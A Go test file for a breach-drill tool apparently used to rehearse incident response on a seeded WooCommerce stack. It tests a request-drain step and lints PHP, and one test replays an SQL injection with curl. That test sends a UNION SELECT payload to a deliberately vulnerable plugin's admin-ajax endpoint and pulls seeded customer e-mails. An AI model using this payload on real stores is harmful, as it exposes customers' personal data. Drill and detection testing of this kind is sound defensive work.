package scenarios_test

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"os/exec"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/stretchr/testify/suite"

	"github.com/breachdrill/breachdrill/containers"
	"github.com/breachdrill/breachdrill/fakedata"
	"github.com/breachdrill/breachdrill/internal/stacktest"
	"github.com/breachdrill/breachdrill/scenarios"
)

// stackSuite runs its tests on one seeded stack with the real WooCommerce,
// each test getting it back at its reset point.
type stackSuite struct {
	stacktest.Suite
}

func TestAgainstARealStack(t *testing.T) {
	suite.Run(t, &stackSuite{stacktest.Suite{Shared: stacktest.Shared{Customers: stacktest.Customers, Orders: stacktest.Orders, Seed: stacktest.Seed, RealWooCommerce: true}}})
}

// Every shipped scenario runs end to end (warm-up, inject, containment
// checks failing before the response and passing after it, revert to the
// reset point, with detection and shoppers) in the CLI's test of `test
// --all` on the real WooCommerce (cmd/breachdrill), and sqlmap-ajax-sqli
// in its own test there: running each scenario's steps here as well
// proved nothing more and cost minutes of every CI run.

// The SQL injection, replayed by hand with curl against the vulnerable
// endpoint, returns seeded customers' e-mail addresses: a canary proves
// which records leaked.
func (s *stackSuite) TestSQLInjectionReplayedWithCurl() {
	t := s.T()
	_, err := exec.LookPath("curl")
	require.NoError(t, err, "curl is needed for this test: apt-get install curl")
	stack, manifest := s.Stack, s.Shared.Manifest()
	cat, err := scenarios.Builtin()
	require.NoError(t, err)
	sc, ok := cat.Get("ajax-sqli-exfiltration")
	require.True(t, ok, "the ajax-sqli-exfiltration scenario ships")
	ctx := context.Background()
	env := scenarios.NewEnv(stack, sc.Artifacts)
	for _, st := range sc.WarmUp() { // install and activate the vulnerable plugin
		require.NoError(t, st.Do.Run(ctx, env), "warm-up %s", st.Action)
	}
	out, err := exec.Command("curl", "-sS", "--max-time", "30",
		"--data-urlencode", "action=acme_order_status",
		"--data-urlencode", "order=0 UNION ALL SELECT c.customer_id, c.email, c.last_name FROM wp_wc_customer_lookup c",
		stack.URL()+"/wp-admin/admin-ajax.php").CombinedOutput()
	require.NoError(t, err, "curl:\n%s", out)
	rep := fakedata.NewScanner(manifest.Canaries).ScanBytes(out)
	require.NotEmpty(t, rep.Canaries, "a canary in the injection's answer (%d bytes): %.300s", len(out), out)
	if !bytes.Contains(out, []byte(manifest.Canaries[0].Email)) {
		require.Contains(t, string(out), "@example", "a seeded e-mail address in the answer")
	}
	t.Logf("curl replay returned %d bytes with %d canaries (%d data subjects)", len(out), len(rep.Canaries), rep.Subjects)
}

// Our own PHP (the stack's must-use plugin and helpers, every scenario
// artifact) compiles on the stack's PHP without a deprecation, warning or
// notice, with every error level on.
func (s *stackSuite) TestOurPHPIsCleanOnTheStacksPHP() {
	t, stack := s.T(), s.Stack
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	lint := func(name string, src io.Reader, path string) {
		cmd := []string{"php", "-d", "error_reporting=-1", "-d", "display_errors=stderr", "-d", "log_errors=0", "-l"}
		opts := []containers.ExecOption{}
		if path != "" {
			cmd = append(cmd, path)
		} else {
			opts = append(opts, containers.WithStdin(src))
		}
		res, err := stack.Exec(ctx, containers.ServiceWP, cmd, opts...)
		require.NoError(t, err, "php -l %s", name)
		out := string(res.Stdout) + string(res.Stderr)
		assert.Contains(t, out, "No syntax errors", "php -l %s", name)
		assert.NotRegexp(t, `(?i)deprecated|warning|notice|fatal|parse error`, out, "php -l %s", name)
	}
	installed := []string{
		"/var/www/html/wp-content/mu-plugins/breachdrill-audit.php",
		"/usr/local/share/breachdrill/prepend.php",
		"/usr/local/share/breachdrill/install.php",
	}
	for _, p := range installed {
		lint(p, nil, p)
	}
	n := 0
	require.NoError(t, fs.WalkDir(scenarios.BuiltinFS(), ".", func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || !strings.HasSuffix(p, ".php") {
			return err
		}
		b, err := fs.ReadFile(scenarios.BuiltinFS(), p)
		require.NoError(t, err)
		lint(p, bytes.NewReader(b), "")
		n++
		return nil
	}))
	assert.GreaterOrEqual(t, n, 4, "the scenario artifacts' PHP files were found")
}

const drainScenario = `id: drain
title: Drain
severity: low
inject:
  - wait: 1ms
expect:
  - {rule: r1, within: 5s}
respond:
  - requests.drain: {}
  - requests.drain: 1s
verify:
  - file.absent: x
`

// requests.drain returns only once the web requests that began before it
// have ended, however long they run, and fails when they outlast its limit.
func (s *stackSuite) TestRequestsDrainWaitsForRequestsInFlight() {
	t, stack := s.T(), s.Stack
	ctx := context.Background()
	sc, err := scenarios.Parse("drain.yaml", []byte(drainScenario))
	require.NoError(t, err)
	drain, drain1s := sc.Respond[0].Do, sc.Respond[1].Do
	env := scenarios.NewEnv(stack, nil)

	start := time.Now()
	require.NoError(t, drain.Run(ctx, env), "no request in flight")
	t.Logf("with no request in flight the drain took %s", time.Since(start))

	// slow.php marks when it has begun and when its work has ended.
	tag := strconv.FormatInt(time.Now().UnixNano(), 10)
	began, ended := "/tmp/slow-began-"+tag, "/tmp/slow-ended-"+tag
	src := fmt.Sprintf("<?php touch(%q); usleep((int) ($_GET['ms'] ?? 0) * 1000); touch(%q); echo 'done';", began, ended)
	require.NoError(t, stack.WriteFile(ctx, "slow.php", []byte(src), 0o644))
	exists := func(path string) bool {
		_, err := stack.Exec(ctx, containers.ServiceWP, []string{"test", "-e", path})
		return err == nil
	}
	slow := func(ms int) <-chan error {
		done := make(chan error, 1)
		go func() {
			resp, err := http.Get(stack.URL() + "/slow.php?ms=" + strconv.Itoa(ms))
			if err == nil {
				_, err = io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
			}
			done <- err
		}()
		return done
	}

	done := slow(3000)
	require.Eventually(t, func() bool { return exists(began) }, time.Minute, 100*time.Millisecond, "slow.php began")
	require.NoError(t, drain.Run(ctx, env), "the drain waits out a 3 s request")
	assert.True(t, exists(ended), "the drain returned only after the request in flight had done its work")
	require.NoError(t, <-done, "the slow request")

	_, err = stack.Exec(ctx, containers.ServiceWP, []string{"rm", "-f", began, ended})
	require.NoError(t, err)
	done = slow(6000)
	require.Eventually(t, func() bool { return exists(began) }, time.Minute, 100*time.Millisecond, "slow.php began")
	err = drain1s.Run(ctx, env)
	require.Error(t, err, "a request running past the drain's limit fails it")
	assert.Contains(t, err.Error(), "still running after 1s", "the error says what outlasted the limit")
	assert.False(t, exists(ended), "the drain gave up while the request still ran")
	require.NoError(t, <-done, "the slow request")
}
